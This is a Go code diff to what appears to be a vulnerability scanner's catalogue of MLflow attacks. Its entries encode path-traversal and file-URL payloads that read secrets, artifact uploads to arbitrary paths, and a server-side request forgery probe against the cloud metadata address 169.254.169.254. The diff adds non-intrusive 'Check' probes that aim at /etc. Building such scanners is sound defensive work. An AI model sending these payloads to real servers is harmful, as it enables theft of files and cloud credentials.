@@ -10,6 +10,7 @@ var mlflowSource = []Attack{
 		Works: []string{"1.30.0"},
 		Steps: []Step{model(), version("${secret-dir}"), versionArtifact("${secret-name}")},
 		Proof: Proof{Answer: "${secret}"},
+		Check: sourceCheck("/etc"),
 	},
 	{
 		ID:    "mlflow/source-file-url",
@@ -18,6 +19,7 @@ var mlflowSource = []Attack{
 		Works: []string{"1.30.0"},
 		Steps: []Step{model(), version("file://${secret-dir}"), versionArtifact("${secret-name}")},
 		Proof: Proof{Answer: "${secret}"},
+		Check: sourceCheck("file:///etc"),
 	},
 	{
 		ID:    "mlflow/source-file-url-with-host",
@@ -26,6 +28,7 @@ var mlflowSource = []Attack{
 		Works: []string{"2.2.0"},
 		Steps: []Step{model(), version("file://localhost${secret-dir}"), versionArtifact("${secret-name}")},
 		Proof: Proof{Answer: "${secret}"},
+		Check: sourceCheck("file://localhost/etc"),
 	},
 	{
 		ID:    "mlflow/source-network-path",
@@ -34,6 +37,7 @@ var mlflowSource = []Attack{
 		Works: []string{"2.9.2", "2.8.0"},
 		Steps: []Step{model(), version("/${secret-dir}"), versionArtifact("${secret-name}")},
 		Proof: Proof{Answer: "${secret}"},
+		Check: sourceCheck("//etc/ssl"),
 	},
 	{
 		ID:    "mlflow/source-encoded-question-mark",
@@ -42,6 +46,7 @@ var mlflowSource = []Attack{
 		Works: []string{"2.9.2"},
 		Steps: []Step{model(), version("mlflow-artifacts:/a%3f/../${up}${secret-dir}"), versionArtifact("${secret-name}")},
 		Proof: Proof{Answer: "${secret}"},
+		Check: sourceCheck("mlflow-artifacts:/a%3f/../${up}/etc"),
 	},
 	{
 		ID:    "mlflow/location-fragment",
@@ -98,6 +103,10 @@ var mlflowSource = []Attack{
 			newRun(), {Request: "POST " + ajax2 + "/upload-artifact?run_uuid=${run}&path=${canary-name}\nContent-Type: text/plain\n\n${secret}"},
 		},
 		Proof: Proof{File: "${canary-dir}/${run}/artifacts/${canary-name}", Holds: "${secret}"},
+		Check: &Check{
+			Steps: []Step{{Request: "POST " + api2 + "/experiments/create\nContent-Type: application/json\n\n" + `"{\"name\": \"Default\", \"artifact_location\": \"/etc\"}"`}},
+			Proof: Proof{Like: existsAlready},
+		},
 	},
 	{
 		ID:    "mlflow/location-camel-case",
@@ -109,6 +118,10 @@ var mlflowSource = []Attack{
 			newRun(), {Request: "POST " + ajax2 + "/upload-artifact?run_uuid=${run}&path=${canary-name}\nContent-Type: text/plain\n\n${secret}"},
 		},
 		Proof: Proof{File: "${canary-dir}/${run}/artifacts/${canary-name}", Holds: "${secret}"},
+		Check: &Check{
+			Steps: []Step{post(api2+"/experiments/create", `{"name": "Default", "artifactLocation": "/etc"}`)},
+			Proof: Proof{Like: existsAlready},
+		},
 	},
 	{
 		ID:    "mlflow/location-local-write",
@@ -163,6 +176,7 @@ var mlflowSource = []Attack{
 		Listener: map[string]Reply{"/api/2.0/mlflow-artifacts/artifacts": {Type: "application/json", Body: "{}"}, "*": {Type: "application/octet-stream", Body: "${secret}"}},
 		Steps:    []Step{model(), version("http://${listener}/api/2.0/mlflow-artifacts/artifacts/internal-${nonce}"), versionArtifact("page")},
 		Proof:    Proof{Heard: "internal-${nonce}", Answer: "${secret}"},
+		Check:    sourceCheck("http://169.254.169.254/latest/meta-data"),
 	},
 	{
 		ID:       "mlflow/location-request-forgery",
@@ -212,6 +226,10 @@ var mlflowSource = []Attack{
 			versionArtifact("${secret-name}"),
 		},
 		Proof: Proof{Answer: "${secret}"},
+		Check: &Check{
+			Steps: []Step{post(api2+"/model-versions/create", `{"name": "weir-check-${nonce}", "source": "/etc", "tags": [{"key": "mlflow.prompt.is_prompt", "value": "true"}]}`)},
+			Proof: Proof{Answer: "Registered Model with name"},
+		},
 	},
 	{
 		ID:    "mlflow/prompt-source-file-url",
@@ -225,13 +243,4 @@ var mlflowSource = []Attack{
 		},
 		Proof: Proof{Answer: "${secret}"},
 	},
-}
-
-// locationCheck asks for an experiment that always exists, with a location that no server should take: one that looks at it says so, one that does not says
-// that the experiment exists, and nothing is left behind.
-func locationCheck(location string) *Check {
-	return &Check{
-		Steps: []Step{post(api2+"/experiments/create", `{"name": "Default", "artifact_location": "`+location+`"}`)},
-		Proof: Proof{Answer: "RESOURCE_ALREADY_EXISTS"},
-	}
 }
